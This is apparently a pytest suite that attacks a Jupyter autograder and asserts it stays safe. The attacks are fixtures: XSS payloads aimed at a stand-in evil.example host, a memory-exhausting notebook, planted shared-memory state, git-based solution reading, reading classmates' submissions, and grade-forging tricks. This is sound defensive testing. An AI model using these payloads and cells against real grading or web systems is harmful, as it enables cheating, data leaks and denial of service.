"""A hostile reviewer's attacks on the grader, each kept as a fixture asserting the SAFE behaviour.

The kit promises that a student cannot fake a grade, read what the grader keeps private, or
crash it or leave something behind, and that an odd but honest notebook still gets a fair grade.
Each test here is one attack a student could make, written for the toy assignment
(``tests/toy_assignment.py``) so that it runs in seconds. An attack that still works is marked
``xfail(strict=True, reason="HOLE: ...")``: the suite stays green, the hole stays visible, and
whoever fixes it removes the mark (strict: the test then passes and the mark must go).
"""

from __future__ import annotations

import contextlib
import ctypes
import html
import json
import os
import re
import shutil
import stat
import tempfile
import tracemalloc
import uuid
from pathlib import Path

import nbformat
import numpy as np
import pytest
import toy_assignment as toy

from autograder import pipeline
from autograder.config import load_assignment
from autograder.feedback import feedback_notebook, render_page
from autograder.intake import read_submission

SOLVED = {"q1": "def add(a, b):\n    return a + b", "q2": "def scale(x, k):\n    return x * k"}
TEST_IDS = {"q1_tests", "q2_tests"}

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="the kernel user exists only as root")


@pytest.fixture(scope="module")
def kit(tmp_path_factory):
    """The toy assignment, built once for the module."""
    root = toy.make_root(tmp_path_factory.mktemp("kit"))
    os.environ["KIT_BUNDLE_DIR"] = str(root / "bundles")
    assignment = load_assignment(toy.NAME, root)
    pipeline.build(assignment, device="cpu")
    yield assignment
    os.environ.pop("KIT_BUNDLE_DIR", None)


def by_name(results: dict) -> dict[str, dict]:
    return {t["name"]: t for t in results["tests"]}


def with_cells(path: Path, *codes: str, metadata: dict | None = None) -> Path:
    """Append code cells (student cells: no nbgrader metadata unless given) to a notebook."""
    nb = nbformat.read(path, as_version=4)
    for code in codes:
        nb.cells.append(nbformat.v4.new_code_cell(code, metadata=dict(metadata or {})))
    nbformat.write(nb, path)
    return path


def permissions_only(monkeypatch) -> None:
    """Grade as a container without CAP_SYS_ADMIN would: no namespaces, file permissions only."""
    from autograder import sandbox

    monkeypatch.setattr(
        sandbox.isolation, "probe_namespaces", lambda: (False, "refused in this test")
    )


# ------------------------------------------------------------------- crash the grader (intake)
def _notebook_with_tiny_objects(path: Path, megabytes: float) -> Path:
    """A notebook whose first answer cell has ``megabytes`` MB of outputs written as ``{},{},..``:
    valid JSON, shallow, few cells, far under the size cap, but one Python dict per 3 bytes."""
    toy.student(path, **SOLVED)
    nb = json.loads(path.read_text())
    nb["cells"][3]["outputs"] = "@@"
    count = int(megabytes * 2**20 / 3)
    path.write_text(json.dumps(nb).replace('"@@"', "[" + "{}," * (count - 1) + "{}]"))
    return path


def _intake_peak_mb(path: Path) -> tuple[float, list[str]]:
    tracemalloc.start()
    try:
        intake = read_submission(path, "toy.ipynb", TEST_IDS)
        return tracemalloc.get_traced_memory()[1] / 2**20, intake.notes
    finally:
        tracemalloc.stop()


def test_an_honest_notebook_with_many_outputs_is_read_within_bounded_memory(tmp_path):
    """The control for the next test: 2 MB of printed training logs (26,000 stream outputs)
    are read, and intake's peak stays under 160 MB (about 100 MB of it is a fixed cost)."""
    path = toy.student(tmp_path / "toy.ipynb", **SOLVED)
    nb = nbformat.read(path, as_version=4)
    nb.cells[3].outputs = [
        nbformat.v4.new_output("stream", name="stdout", text=f"epoch {i} loss 0.{i:06d}\n")
        for i in range(26_000)
    ]
    nbformat.write(nb, path)
    peak_mb, notes = _intake_peak_mb(path)
    assert notes == []
    assert peak_mb < 160, f"intake peaked at {peak_mb:.0f} MB"


def test_a_notebook_of_two_million_empty_objects_is_refused_before_parsing(tmp_path):
    """Crash the grader with memory: 2 MB of ``{},`` in one cell's outputs (the same file at 95 MB
    took 16 GB of grader memory and 129 s, measured). Safe: refused with a note before parsing,
    or read within the same bound as an honest notebook of that size."""
    path = _notebook_with_tiny_objects(tmp_path / "toy.ipynb", 2)
    peak_mb, notes = _intake_peak_mb(path)
    assert notes or peak_mb < 160, f"intake peaked at {peak_mb:.0f} MB and refused nothing"


# --------------------------------------------------------------------------------- feedback
#: Markup a student's outputs could carry into the feedback page; none may stay live.
HOSTILE_MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">j</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=p></form>',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<svg onload=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<style>body{background:url(https://evil.example/bg)}</style>",
    '<div style="background:url(https://evil.example/s)">s</div>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
]
LIVE_TAGS = {"script", "iframe", "form", "base", "link", "svg", "math", "style", "object",
             "embed", "meta", "input", "details", "noscript"}  # fmt: skip


def live_markup(page_body: str) -> list[str]:
    """Tags and attributes that a browser would act on, found by parsing (not by regex, so an
    escaped attribute value like ``title="&lt;img onerror=..."`` is correctly seen as text)."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in LIVE_TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                value = (value or "").strip().lower()
                if name.startswith("on"):
                    found.append(f"<{tag} {name}=...>")
                if name in ("href", "src", "xlink:href") and value.startswith("javascript:"):
                    found.append(f"<{tag} {name}=javascript:...>")
                inline_image = re.match(r"data:image/(png|jpeg|gif);", value)
                if tag == "img" and name == "src" and not inline_image:
                    found.append(f"<img src={value[:40]}>")

    Finder().feed(page_body)
    return found


def test_hostile_markup_in_every_place_of_an_executed_notebook_is_inert():
    """XSS through the feedback page: markup in markdown and raw cells, HTML/markdown outputs,
    error names and tracebacks, stream names, image data and size metadata, JS/widget outputs.
    Safe: the page's body has no live tag, handler or script URL after the CSP line."""
    markup = "\n".join(HOSTILE_MARKUP)
    outputs = [
        {"output_type": "display_data", "metadata": {},
         "data": {"text/html": markup, "text/markdown": markup}},
        {"output_type": "execute_result", "execution_count": 1, "data": {"text/html": [markup]},
         "metadata": {"text/html": {"isolated": False}}},
        {"output_type": "error", "ename": "<script>alert(1)</script>", "evalue": markup,
         "traceback": ["\x1b[31m" + markup]},
        {"output_type": "stream", "name": "<script>", "text": markup},
        {"output_type": "display_data", "data": {"image/png": 'iVBORw0KGgo=" onerror="alert(1)'},
         "metadata": {"image/png": {"width": "1 onerror=alert(1)"}}},
        {"output_type": "display_data", "metadata": {},
         "data": {"application/javascript": "alert(1)",
                  "application/vnd.jupyter.widget-view+json": {"model_id": "x"}}},
    ]  # fmt: skip
    cells = [
        {"cell_type": "markdown", "metadata": {},
         "source": markup + "\n\n[l](javascript:alert(1))\n\n![t](https://evil.example/t.png)"},
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": markup},
        {"cell_type": "code", "source": "x", "execution_count": 1, "metadata": {},
         "outputs": outputs},
    ]  # fmt: skip
    nb = {"cells": cells, "metadata": {"title": "<script>alert(1)</script>"}}
    page = render_page(feedback_notebook(nb, {}, set()))
    body = page[page.index("<body") :]
    assert len(live_markup("<p><img src=x onerror=alert(1)></p>")) == 2  # the finder works
    assert live_markup(body) == []


@needs_root
@pytest.mark.xfail(
    strict=True,
    reason="HOLE (low; cannot be closed inside the kernel): the kernel must receive the hidden "
    "test's text, so student code can print it encoded (base64) and autograder/redact.py only "
    "removes verbatim lines. The README's Feedback paragraph states this limit and why it is "
    "enough (hidden tests hold no secret); closing it would mean showing no outputs of cells run "
    "after the first hidden test",
)
def test_hidden_test_source_encoded_by_student_code_stays_off_the_feedback_page(kit, tmp_path):
    """Leak the hidden tests: a last cell prints ``In`` base64-encoded. Safe: the page shows no
    encoding of the hidden lines."""
    import base64

    leak = "import base64\nprint('LEAK', base64.b64encode('\\n'.join(In).encode()).decode())"
    path = with_cells(toy.student(tmp_path / "toy.ipynb", **SOLVED), leak)
    graded = pipeline.grade(kit, path, device="cpu", feedback_dir=tmp_path / "fb")
    assert graded.results["score"] == 5
    page = graded.feedback[0].read_text()
    decoded = " ".join(
        base64.b64decode(m).decode("utf-8", "replace")
        for m in re.findall(r"LEAK ([A-Za-z0-9+/=]+)", page)
    )
    assert "grading_input" not in decoded


# ------------------------------------------------------------------------- unearned points
@needs_root
def test_an_extra_cell_claiming_to_be_a_graded_test_earns_nothing(kit, tmp_path):
    """A student adds a cell with nbgrader metadata ``grade: true, points: 100``. Safe: it is
    not a test of the results, and the total stays the assignment's 5 points."""
    bonus = {"nbgrader": {"grade_id": "bonus", "grade": True, "points": 100, "solution": False,
                          "locked": True, "schema_version": 3}}  # fmt: skip
    path = with_cells(toy.student(tmp_path / "toy.ipynb", **SOLVED), "x = 1", metadata=bonus)
    results = pipeline.grade(kit, path, device="cpu").results
    assert set(by_name(results)) == TEST_IDS
    assert sum(t["max_score"] for t in results["tests"]) == 5
    assert results["score"] == 5


# ------------------------------------------------------------------ odd but honest notebooks
@needs_root
def test_an_odd_but_honest_notebook_gets_full_marks(kit, tmp_path):
    """nbformat 4.0 without cell ids, the answer written in an extra cell above the test (the
    stub left in place), warnings and stderr output, helpers under other names, a plot, and a
    slow but correct answer (6 s of a 20 s cell limit). Safe: full marks."""
    slow_add = (
        "import sys, time, warnings\nwarnings.warn('an old API')\n"
        "print('noise ' * 1000, file=sys.stderr)\n"
        "def _plus(u, v):\n    return u + v\n"
        "def add(a, b):\n    time.sleep(3)\n    return _plus(a, b)\n"
    )
    path = toy.student(tmp_path / "toy.ipynb", q2=SOLVED["q2"])
    nb = json.loads(path.read_text())
    nb["nbformat_minor"] = 0
    for cell in nb["cells"]:
        cell.pop("id", None)
    test_at = next(
        i for i, c in enumerate(nb["cells"])
        if c["metadata"].get("nbgrader", {}).get("grade_id") == "q1_tests"
    )  # fmt: skip
    extra = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": []}
    nb["cells"].insert(test_at, {**extra, "source": slow_add})
    nb["cells"].append({**extra, "source": "import matplotlib.pyplot as plt\nplt.plot([1, 2])"})
    path.write_text(json.dumps(nb))
    results = pipeline.grade(kit, path, device="cpu").results
    assert results["score"] == 5, by_name(results)


# ---------------------------------------------------------------- leave something behind
def _sysv_segments_with_key(key: int) -> list[int]:
    """shmids of the SysV shared memory segments with ``key`` (from /proc/sysvipc/shm)."""
    with open("/proc/sysvipc/shm") as f:
        rows = [line.split() for line in f.readlines()[1:]]
    return [int(row[1]) for row in rows if int(row[0]) == key]


def _remove_leftovers(key: int, names: list[str], queue: str) -> None:
    """Root removes what the attack below may have left, whatever the test found."""
    libc = ctypes.CDLL(None, use_errno=True)
    for shmid in _sysv_segments_with_key(key):
        libc.shmctl(shmid, 0, None)  # IPC_RMID
    for name in names:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(name)
    librt = ctypes.CDLL("librt.so.1", use_errno=True)
    librt.mq_unlink(queue.encode())


@needs_root
@pytest.mark.parametrize("namespaces", [True, False], ids=["namespaces", "permissions-only"])
def test_a_run_leaves_nothing_in_shared_places(kit, tmp_path, monkeypatch, namespaces):
    """Leave state for the next submission (same kernel user) or fill RAM for good: a cell makes
    a 16 MB SysV segment, a POSIX message queue and files in every world-writable place.
    Safe: after grading none of them exists."""
    if not namespaces:
        permissions_only(monkeypatch)
    tag = uuid.uuid4().hex[:12]
    key = int(tag[:7], 16)
    names = [
        f"{folder}/kit-attack-{tag}" for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run/lock")
    ]
    queue = f"/kit-attack-{tag}"
    plant = (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmat.restype = ctypes.c_void_p\n"
        f"shmid = libc.shmget({key}, 16 * 2**20, 0o1666)\n"
        "address = libc.shmat(shmid, None, 0)\nctypes.memset(address, 65, 16 * 2**20)\n"
        "libc.shmdt(ctypes.c_void_p(address))\n"
        f"ctypes.CDLL('librt.so.1').mq_open({queue.encode()!r}, 0o102, 0o666, None)\n"
        f"for name in {names!r}:\n    open(name, 'w').write('left for the next submission')\n"
    )
    path = with_cells(toy.student(tmp_path / "toy.ipynb", **SOLVED), plant)
    try:
        results = pipeline.grade(kit, path, device="cpu").results
        assert results["score"] == 5
        left = [n for n in names if os.path.lexists(n)]
        left += [f"SysV segment {i}" for i in _sysv_segments_with_key(key)]
        with tempfile.TemporaryDirectory() as mnt:  # list POSIX queues: mount an mqueue fs
            if os.system(f"mount -t mqueue none {mnt} 2>/dev/null") == 0:
                try:
                    left += [f"message queue {n}" for n in os.listdir(mnt) if tag in n]
                finally:
                    os.system(f"umount {mnt}")
        assert left == []
    finally:
        _remove_leftovers(key, names, queue)


# ------------------------------------------------------------------- read what is hidden
@needs_root
def test_overlapping_permission_only_gradings_keep_hidden_paths_closed(monkeypatch):
    """Two batch workers without namespaces (kernel users kgattack and kgattack2) hide the same
    bundle. Worker A finishes while worker B's kernel still runs. Safe: the bundle stays closed to
    B's kernel until B ends, and has its original mode afterwards."""
    from autograder.sandbox import KernelSandbox, plan_isolation

    permissions_only(monkeypatch)
    user = os.environ.get("KIT_KERNEL_USER") or "kgattack"
    base = Path(tempfile.mkdtemp(prefix="kit-attack-"))
    try:
        base.chmod(0o711)
        bundle = base / "bundle"
        bundle.mkdir(mode=0o755)
        (bundle / "expected.npy").write_bytes(b"the expected results")
        workdirs = [base / "a", base / "b"]
        for folder in workdirs:
            folder.mkdir(mode=0o755)
        first = KernelSandbox(plan_isolation(None, user), workdirs[0], hide=[bundle])
        second = KernelSandbox(plan_isolation(None, user + "2"), workdirs[1], hide=[bundle])
        with first:
            second.__enter__()
        try:
            mode_while_b_runs = stat.S_IMODE(bundle.stat().st_mode)
        finally:
            second.__exit__(None, None, None)
        assert mode_while_b_runs & 0o007 == 0, f"bundle mode {mode_while_b_runs:o} while B runs"
        assert stat.S_IMODE(bundle.stat().st_mode) == 0o755
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ------------------------------------------------------------- malformed but readable notebooks
#: Cell metadata a hand-edited or tool-mangled notebook may carry (valid JSON, wrong types).
MANGLED_METADATA = {
    "grade_id_a_list": lambda cell: cell["metadata"]["nbgrader"].__setitem__("grade_id", ["q1"]),
    "grade_id_an_object": lambda cell: cell["metadata"]["nbgrader"].__setitem__("grade_id", {}),
    "metadata_a_list": lambda cell: cell.__setitem__("metadata", []),
    "nbgrader_a_string": lambda cell: cell["metadata"].__setitem__("nbgrader", "q1"),
}


@needs_root
@pytest.mark.parametrize("mangle", MANGLED_METADATA.values(), ids=MANGLED_METADATA.keys())
def test_mangled_metadata_in_one_cell_loses_no_other_points(kit, tmp_path, mangle):
    """One answer cell's metadata has the wrong type. Before the fix intake.py crashed (a
    TypeError hashing the grade_id, an AttributeError on .get) and the guard gave 0 points for
    every test. Safe: the other part keeps its points and the grader does not fail."""
    path = toy.student(tmp_path / "toy.ipynb", **SOLVED)
    nb = json.loads(path.read_text())
    mangle(nb["cells"][3])  # the q1 answer cell
    path.write_text(json.dumps(nb))
    results = pipeline.grade(kit, path, device="cpu").results
    assert by_name(results)["q2_tests"]["score"] == 3
    assert "grader failed" not in json.dumps(results)


# ----------------------------------------------------------- performance without a model
#: The toy assignment with 200 hidden Fashion-MNIST test images (seeds drawn at build, as a1/a2
#: do) and an accuracy band.
PERFORMANCE = """
[hidden_data]
dataset = "fashion-mnist"
split = "test"
limit = 200
transform = "noise"

[[performance]]
name = "Accuracy on the hidden set"
predictions = "p.csv"
metric = "accuracy"
zero_at = 0.1
full_at = 0.9
max_score = 1.0
"""
#: Submission 1: print a 7x7 thumbnail of every hidden image (49 bytes each) to the feedback,
#: 100 per cell (one output shows at most 20,000 characters).
PRINT_FINGERPRINTS = (
    "from helpers.data.hidden import read_hidden_inputs\n"
    "ids, images = read_hidden_inputs(DATA_DIR)\n"
    "small = images.reshape(-1, 7, 4, 7, 4).mean(axis=(2, 4)).astype('uint8')\n"
    "print('\\n'.join(f'FP {i} {s.tobytes().hex()}' for i, s in zip(ids[:100], small)))\n"
)
PRINT_MORE = "print('\\n'.join([f'FP {i} {s.tobytes().hex()}' for i, s in zip(ids, small)][100:]))"


@pytest.fixture(scope="module")
def perf_kit(tmp_path_factory):
    root = toy.make_root(tmp_path_factory.mktemp("perf"))
    config = root / "assignments" / toy.NAME / "assignment.toml"
    config.write_text(config.read_text() + PERFORMANCE)
    os.environ["KIT_BUNDLE_DIR"] = str(root / "bundles")
    assignment = load_assignment(toy.NAME, root)
    pipeline.build(assignment, device="cpu")
    yield assignment
    os.environ.pop("KIT_BUNDLE_DIR", None)


@needs_root
def test_hidden_images_seen_in_feedback_cannot_be_labelled_for_the_next_submission(
    perf_kit, tmp_path
):
    """Submission 1 prints a 7x7 thumbnail per hidden image; at home the student matches each to
    the nearest public test image (whose label is public); submission 2 writes those labels
    by id, with no model at all. Safe: that table scores no better than a weak model (< 0.5)."""
    from helpers.data.fashion import fashion_mnist

    first = with_cells(
        toy.student(tmp_path / "1" / "toy.ipynb", **SOLVED), PRINT_FINGERPRINTS, PRINT_MORE
    )
    graded = pipeline.grade(perf_kit, first, device="cpu", feedback_dir=tmp_path / "fb")
    page = html.unescape(graded.feedback[0].read_text())
    seen = dict(re.findall(r"FP (h\d+) ([0-9a-f]{98})", page))
    assert len(seen) == 200

    public = fashion_mnist("test", download=False)  # the student has it at home
    public_small = public.images.reshape(-1, 7, 4, 7, 4).mean(axis=(2, 4)).reshape(-1, 49)
    table = {}
    for hidden_id, hexed in seen.items():
        thumb = np.frombuffer(bytes.fromhex(hexed), dtype=np.uint8).astype(np.float64)
        nearest = int(np.argmin(((public_small - thumb) ** 2).sum(axis=1)))
        table[hidden_id] = int(public.labels[nearest])

    lookup = (
        "import os\nfrom helpers.predictions import save_predictions\n"
        f"table = {table!r}\n"
        "save_predictions(os.path.join(OUTPUT_DIR, 'p.csv'), list(table), list(table.values()))\n"
    )
    second = with_cells(toy.student(tmp_path / "2" / "toy.ipynb", **SOLVED), lookup)
    results = pipeline.grade(perf_kit, second, device="cpu").results
    band = by_name(results)["Accuracy on the hidden set"]
    accuracy = float(re.search(r"accuracy = ([0-9.]+)", band["output"]).group(1))
    assert accuracy < 0.5, band["output"]


# ------------------------------------------------------------------- records that prove nothing
def _draws_of_sizes(sizes: list[tuple[int, int]]) -> list[dict[str, np.ndarray]]:
    """Input draws as a2's test_improved_net gets them: N images and a number of classes."""
    rng = np.random.default_rng(0)
    return [{"improved_images": rng.standard_normal((n, 1, 28, 28)).astype(np.float32),
             "improved_classes": np.array(k, np.int64)} for n, k in sizes]  # fmt: skip


SIZES = [(31, 14), (5, 3), (12, 9)]


def test_an_all_true_mask_shaped_by_the_inputs_is_no_evidence():
    """A blank ImprovedNet that returns zeros of the right shape records the same
    ``improved_net.finite`` as the reference. Safe: build refuses that record."""
    from autograder.evidence import check_evidence

    draws = _draws_of_sizes(SIZES)
    finite = [np.ones((n, k), dtype=bool) for n, k in SIZES]
    refused = check_evidence("test_improved_net", "improved_net.finite", finite, draws,
                             rtol=1e-5, atol=1e-8)  # fmt: skip
    assert refused is not None


def test_a_record_of_the_inputs_sizes_is_no_evidence():
    """``improved_net.shape`` = [N, classes], both read off the inputs. Safe: refused."""
    from autograder.evidence import check_evidence

    draws = _draws_of_sizes(SIZES)
    shapes = [np.array([n, k]) for n, k in SIZES]
    refused = check_evidence("test_improved_net", "improved_net.shape", shapes, draws,
                             rtol=0.0, atol=0.0)  # fmt: skip
    assert refused is not None


@needs_root
def test_a_lone_surrogate_in_an_answer_loses_no_points(kit, tmp_path):
    """Half of a UTF-16 pair escaped in the notebook's JSON (``\\ud800``, e.g. a broken emoji
    pasted into a comment). Before the fix jupyter_client could not encode the cell for the
    kernel, grading raised, and the guard gave every test 0. Safe: the answer runs and scores."""
    path = toy.student(tmp_path / "toy.ipynb", **SOLVED)
    path.write_text(path.read_text().replace("return a + b", "return a + b  # \\ud83d broken"))
    assert "\\ud83d" in path.read_text()
    results = pipeline.grade(kit, path, device="cpu").results
    assert results["score"] == 5, by_name(results)


#: A blank a2 answer for ImprovedNet: no layers, zeros of the right shape.
STUB_IMPROVED_NET = (
    "class ImprovedNet(nn.Module):\n    def __init__(self, num_classes=10):\n"
    "        super().__init__()\n        self.num_classes = num_classes\n\n"
    "    def forward(self, x):\n        return torch.zeros(len(x), self.num_classes)\n"
)


@needs_root
@pytest.mark.slow
def test_a2_a_stub_improved_net_earns_no_point(tmp_path, monkeypatch):
    """The a2 release, blank but for a 7-line ImprovedNet that returns zeros. Safe: 0 points
    (builds a2: about 3 minutes)."""
    monkeypatch.setenv("KIT_BUNDLE_DIR", str(tmp_path / "bundles"))
    root = Path(__file__).resolve().parents[1]
    assignment = load_assignment("a2_cnn_fashion", root)
    pipeline.build(assignment, device="cpu")
    nb = nbformat.read(root / "release" / "a2_cnn_fashion" / "a2_cnn_fashion.ipynb", as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "improved_net":
            cell.source = STUB_IMPROVED_NET
    path = tmp_path / "submission" / "a2_cnn_fashion.ipynb"
    path.parent.mkdir()
    nbformat.write(nb, path)
    results = pipeline.grade(assignment, path, device="cpu").results
    assert results["score"] == 0, by_name(results)["test_improved_net"]


# ------------------------------------------------------------------- exhaust the grader's memory
def _send_on_iopub(text: str, frames: int, frame_mb: int) -> str:
    """A cell that sends one IOPub stream message carrying ``frames`` extra ZeroMQ frames of
    ``frame_mb`` MB each (the same bytes object: it costs the kernel ``frame_mb`` MB only)."""
    return (
        "k = get_ipython().kernel\n"
        f"big = b'x' * ({frame_mb} * 2**20)\n"
        f"k.session.send(k.iopub_socket, 'stream', content={{'name': 'stdout', 'text': {text!r}}},"
        f" parent=k.get_parent(), buffers=[big] * {frames})\n"
        "import time; time.sleep(1)\n"
    )


@needs_root
def test_one_message_of_many_frames_is_refused_like_an_oversized_one(kit, tmp_path):
    """Flood the grader's memory with one IOPub message of 12 frames of 8 MB (96 MB in all, three
    times the 32 MB the grader accepts in one message). Safe: it is refused, as a single 40 MB
    frame is (the control), so its text never reaches the notebook."""
    control = _send_on_iopub("ONE-BIG-FRAME", 1, 40)
    flood = _send_on_iopub("MANY-FRAMES", 12, 8)
    path = with_cells(toy.student(tmp_path / "toy.ipynb", **SOLVED), control, flood)
    graded = pipeline.grade(kit, path, device="cpu", feedback_dir=tmp_path / "fb")
    assert graded.results["score"] == 5
    page = graded.feedback[0].read_text()
    assert "ONE-BIG-FRAME" not in page.replace("'ONE-BIG-FRAME'", "")  # the cell's own source
    assert "MANY-FRAMES" not in page.replace("'MANY-FRAMES'", "")
    # Refused the way a single oversized message is, naming the cap; the next cells still ran.
    assert page.count("sent an output larger than the 32 MB the grader accepts") >= 2
    assert "that output was not kept" in page  # the many-frames one: only that message lost


# ------------------------------------------------------------------- read the source solution
READ_SOURCE_FROM_GIT = """\
import os, subprocess
# root/.git (the worktree's pointer) is hidden, so look for the repository that holds worktrees
# in the folders above the kit (a student finds the root from helpers.__file__).
here, found = {root!r}, []
while here != '/':
    here = os.path.dirname(here)
    for name in os.listdir(here):
        if os.path.isdir(os.path.join(here, name, '.git', 'worktrees')):
            found.append(os.path.join(here, name, '.git'))
leaked = False
for common in found:
    shown = subprocess.run(['git', '--git-dir', common, '-c', 'safe.directory=*', 'show',
                            'HEAD:source/toy/toy.ipynb'], capture_output=True, text=True)
    leaked |= 'BEGIN SOLUTION' in shown.stdout
print('LEAKED-' + 'SOLUTION' if leaked else 'kept', found)
"""


@needs_root
def test_a_kit_checked_out_as_a_git_worktree_does_not_expose_its_repository(monkeypatch):
    """The instructor grades from a git worktree of the kit (as this team works). Safe: a cell
    cannot read the source notebook from the repository's objects."""
    import subprocess

    base = Path(tempfile.mkdtemp(prefix=".attack-kit-", dir=Path(__file__).resolve().parents[1]))
    try:  # outside /tmp, which the kernel's mount namespace covers anyway
        base.chmod(0o755)
        main, grading = base / "main", base / "grading"
        toy.make_root(main)
        git = ["git", "-c", "user.email=a@b", "-c", "user.name=attack", "-C", str(main)]
        for step in (["init", "-q"], ["add", "."], ["commit", "-qm", "toy"],
                     ["worktree", "add", "-q", str(grading)]):  # fmt: skip
            subprocess.run(git + step, check=True)
        monkeypatch.setenv("KIT_BUNDLE_DIR", str(base / "bundles"))
        assignment = load_assignment(toy.NAME, grading)
        pipeline.build(assignment, device="cpu")
        student = toy.student(base / "submission" / "toy.ipynb", **SOLVED)
        path = with_cells(student, READ_SOURCE_FROM_GIT.format(root=str(grading)))
        graded = pipeline.grade(assignment, path, device="cpu", feedback_dir=base / "fb")
        assert graded.results["score"] == 5
        assert "LEAKED-SOLUTION" not in graded.feedback[0].read_text()
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ------------------------------------------------------------------------- checks only in asserts
#: q1 wrong on the visible case (add(1, 2) is 0) but returning an int whose == is always True.
ALWAYS_EQUAL_ADD = (
    "class _Yes(int):\n    def __eq__(self, other):\n        return True\n\n"
    "def add(a, b):\n    if isinstance(a, int):\n        return _Yes(0)\n    return a + b\n"
)


@needs_root
@pytest.mark.xfail(
    strict=True,
    reason="HOLE (low, by design: autograder/evidence.py says asserts are forgeable): a check "
    "made only by an assert is not enforced, since the student's return value decides what == "
    "(or .dtype, np.allclose via __array_function__) says. a1's dtype checks (flatten_images, "
    "dropout_forward) and dropout's train=False pass-through are asserts only. Fix: record what "
    "they check (e.g. the eval-mode output, the dtype's name) or say in the docs they are hints",
)
def test_a_visible_check_the_code_fails_costs_the_test(kit, tmp_path):
    """add(1, 2) returns 0 disguised as an int equal to everything; the hidden part is right.
    Safe: q1_tests, whose visible check the code fails, scores 0."""
    path = toy.student(tmp_path / "toy.ipynb", q1=ALWAYS_EQUAL_ADD, q2=SOLVED["q2"])
    results = pipeline.grade(kit, path, device="cpu").results
    assert by_name(results)["q1_tests"]["score"] == 0


# ------------------------------------------------------------------ read other students' work
BOBS_MARKER = "bob-private-" + uuid.uuid4().hex[:8]
READ_CLASSMATES = """\
import os
found = []
for top, folders, files in os.walk({subs!r}):
    for name in files:
        if name.endswith('.ipynb'):
            try:
                found.append(open(os.path.join(top, name)).read())
            except OSError:
                pass
print('classmates:', [t[t.find('bob-private-'):][:20] for t in found if 'bob-private-' in t])
"""


@needs_root
def test_a_batch_kernel_cannot_read_a_classmates_submission(kit):
    """``batch`` grades alice and bob from one folder on one machine (outside /tmp, as an
    instructor's course folder is). Alice's last cell walks the submissions folder. Safe: her
    feedback shows nothing of bob's notebook."""
    import subprocess
    import sys

    base = Path(tempfile.mkdtemp(prefix=".attack-batch-", dir=Path(__file__).resolve().parents[1]))
    try:
        base.chmod(0o755)
        subs, out = base / "submissions", base / "out"
        bob = dict(SOLVED, q1=f"def add(a, b):\n    # {BOBS_MARKER}\n    return a + b")
        toy.student(subs / "bob" / "toy.ipynb", **bob)
        alice = toy.student(subs / "alice" / "toy.ipynb", **SOLVED)
        with_cells(alice, READ_CLASSMATES.format(subs=str(subs)))
        for folder in (subs, subs / "alice", subs / "bob"):
            folder.chmod(0o755)
        command = [sys.executable, "-m", "autograder", "batch", toy.NAME, str(subs), "--out",
                   str(out), "--root", str(kit.root), "--jobs", "1"]  # fmt: skip
        subprocess.run(command, check=False, capture_output=True, timeout=300)
        pages = [p.read_text(errors="replace") for p in (out / "alice").rglob("*.html")]
        assert pages, sorted(p.name for p in out.rglob("*"))
        assert BOBS_MARKER not in "".join(pages)
    finally:
        shutil.rmtree(base, ignore_errors=True)
